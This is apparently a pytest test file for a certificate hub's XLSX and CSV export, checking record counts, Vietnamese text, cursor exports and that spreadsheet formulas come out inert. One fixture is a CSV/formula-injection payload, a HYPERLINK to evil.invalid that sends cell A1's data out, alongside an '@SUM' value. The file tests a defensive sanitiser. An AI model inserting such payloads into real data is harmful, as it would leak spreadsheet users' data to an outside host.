"""The hub's own export as XLSX and CSV (issue 22): two labs push to one hub (SQLite and
PostgreSQL); ``hub export --format xlsx|csv`` holds every stored record once, a sheet or file
per record type and the registered labs, Vietnamese intact, from a cursor as the JSON form;
a lab's text that a spreadsheet would run as a formula comes out inert."""

from __future__ import annotations

import codecs
import csv
import json
import re
from datetime import date
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from typer.testing import CliRunner

from certissuer._tables import inert_cell
from certissuer.cli import app as cli_app
from certissuer.hub.export import COLUMNS_HUB

from . import test_hub
from .test_hub import World
from .test_hub_catalogue import _verify

world = test_hub.world

FORMULA = '=HYPERLINK("http://evil.invalid/?d="&A1,"Xem giấy chứng nhận")'
"""An owner's name that Excel would run: a link carrying the sheet's data away."""
OWNER_VN = "Cửa hàng xăng dầu Vĩnh Long"
SCOPE_VN = "Cân, áp kế; thử nghiệm phân bón"
KINDS = ("certificates", "instruments", "standards", "inspectors")


def _invoke(*args: str) -> str:
    result = CliRunner().invoke(cli_app, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def _stored(world: World) -> dict[str, int]:
    """How many records of each type the hub stores, counted from its tables."""
    counts = {"certificates": len(world.hub.certificates())}
    for kind in KINDS[1:]:
        counts[kind] = sum(len(world.hub.records(code, kind)) for code in ("DT01", "DT02"))
    return counts


def _push_province(world: World, url: str) -> None:
    _verify(world.a, "A-F", "SN-F1", on=date(2026, 11, 25), until=date(2027, 11, 24), owner=FORMULA)
    _verify(
        world.a,
        "A-V",
        "SN-V1",
        on=date(2026, 11, 25),
        until=date(2027, 11, 24),
        owner=OWNER_VN,
        place="@SUM(1+1) Phường 1",
    )
    _verify(world.b, "B-Z", "SN-Z1", on=date(2026, 11, 25), until=date(2027, 11, 24))
    world.push(world.a)
    world.push(world.b)
    _invoke(
        "hub", "lab-profile", "--db", url, "--code", "DT02", "--kind", "testing",
        "--scope", SCOPE_VN,
    )  # fmt: skip


def test_the_xlsx_export_holds_every_record_inert(
    world: World, any_ledger_url: str, tmp_path: Path
) -> None:
    _push_province(world, any_ledger_url)
    stored = _stored(world)
    assert stored["certificates"] == 3 and stored["instruments"] >= 3

    out = tmp_path / "hub.xlsx"
    text = _invoke("hub", "export", "--db", any_ledger_url, "--format", "xlsx", "--out", str(out))
    book = load_workbook(out)
    assert book.sheetnames == ["export", *KINDS, "labs"]
    meta = {row[0]: row[1] for row in book["export"].iter_rows(min_row=2, values_only=True)}
    assert meta["version"] == "1.2" and f"cursor {meta['cursor']}" in text
    assert json.loads(meta["counts"]) == stored
    sheets: dict[str, list[dict[str, Any]]] = {}
    for name in (*KINDS, "labs"):
        rows = list(book[name].iter_rows(values_only=True))
        assert rows[0] == COLUMNS_HUB[name]
        sheets[name] = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert {k: len(sheets[k]) for k in KINDS} == stored
    assert [(lab["code"], lab["kinds"], lab["scope"]) for lab in sheets["labs"]] == [
        ("DT01", None, None),
        ("DT02", "testing", SCOPE_VN),
    ]
    assert sheets["labs"][0]["certificates"] == 2 and sheets["labs"][1]["certificates"] == 1

    # the formula is text with an apostrophe before it, on the certificate and the instrument
    cert = next(c for c in sheets["certificates"] if c["instrument_serial"] == "SN-F1")
    assert cert["customer_name"] == "'" + FORMULA
    inst = next(i for i in sheets["instruments"] if i["serial"] == "SN-F1")
    assert inst["owner_name"] == "'" + FORMULA and inst["lab_code"] == "DT01"
    placed = next(i for i in sheets["instruments"] if i["serial"] == "SN-V1")
    assert placed["place_of_use"] == "'@SUM(1+1) Phường 1"
    assert placed["owner_name"] == OWNER_VN  # Vietnamese as typed
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
    # dates as ISO text
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d", c["issue_date"]) for c in sheets["certificates"])


def test_the_csv_export_is_a_folder_of_utf8_files_from_a_cursor(
    world: World, any_ledger_url: str, tmp_path: Path
) -> None:
    _push_province(world, any_ledger_url)
    stored = _stored(world)
    folder = tmp_path / "hub-csv"
    text = _invoke("hub", "export", "--db", any_ledger_url, "--format", "csv", "--out", str(folder))
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        ["export.json", *(f"{k}.csv" for k in (*KINDS, "labs"))]
    )
    tables: dict[str, list[dict[str, str]]] = {}
    for name in (*KINDS, "labs"):
        raw = (folder / f"{name}.csv").read_bytes()
        assert raw.startswith(codecs.BOM_UTF8)  # so Excel reads the Vietnamese as UTF-8
        with (folder / f"{name}.csv").open(encoding="utf-8-sig", newline="") as fh:
            reader = csv.DictReader(fh)
            assert tuple(reader.fieldnames or ()) == COLUMNS_HUB[name]
            tables[name] = list(reader)
    assert {k: len(tables[k]) for k in KINDS} == stored
    assert len(tables["labs"]) == 2
    meta = json.loads((folder / "export.json").read_text(encoding="utf-8"))
    assert meta["counts"] == stored and f"cursor {meta['cursor']}" in text
    cert = next(c for c in tables["certificates"] if c["instrument_serial"] == "SN-F1")
    assert cert["customer_name"] == "'" + FORMULA
    assert any(i["owner_name"] == OWNER_VN for i in tables["instruments"])
    assert next(lab for lab in tables["labs"] if lab["code"] == "DT02")["scope"] == SCOPE_VN
    for rows in tables.values():
        for row in rows:
            assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values()), row

    # from the cursor: only what was pushed since, as the JSON form carries it
    _verify(world.b, "B-N", "SN-N1", on=date(2026, 11, 24), until=date(2027, 11, 23))
    world.push(world.b)
    later = tmp_path / "later"
    _invoke(
        "hub", "export", "--db", any_ledger_url, "--format", "csv", "--out", str(later),
        "--since-cursor", meta["cursor"],
    )  # fmt: skip
    with (later / "certificates.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert [r["instrument_serial"] for r in csv.DictReader(fh)] == ["SN-N1"]
    as_json = tmp_path / "later.json"
    _invoke(
        "hub", "export", "--db", any_ledger_url, "--out", str(as_json),
        "--since-cursor", meta["cursor"],
    )  # fmt: skip
    document = json.loads(as_json.read_text(encoding="utf-8"))
    assert [c["instrument_serial"] for c in document["certificates"]] == ["SN-N1"]
    assert "labs" not in document  # the JSON form stays the sector format

    bad = CliRunner().invoke(
        cli_app, ["hub", "export", "--db", any_ledger_url, "--format", "ods", "--out", "x"]
    )
    assert bad.exit_code == 2 and "--format: expected one of csv, json, xlsx, got 'ods'" in (
        bad.output
    )


def test_inert_cell_neutralises_only_what_a_spreadsheet_would_run() -> None:
    for text in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(1)"):
        assert inert_cell(text) == "'" + text
    for value, cell in (("Vĩnh Long", "Vĩnh Long"), ("a=b", "a=b"), (-5, -5), (None, "")):
        assert inert_cell(value) == cell
    assert inert_cell(date(2026, 12, 1)) == "2026-12-01"
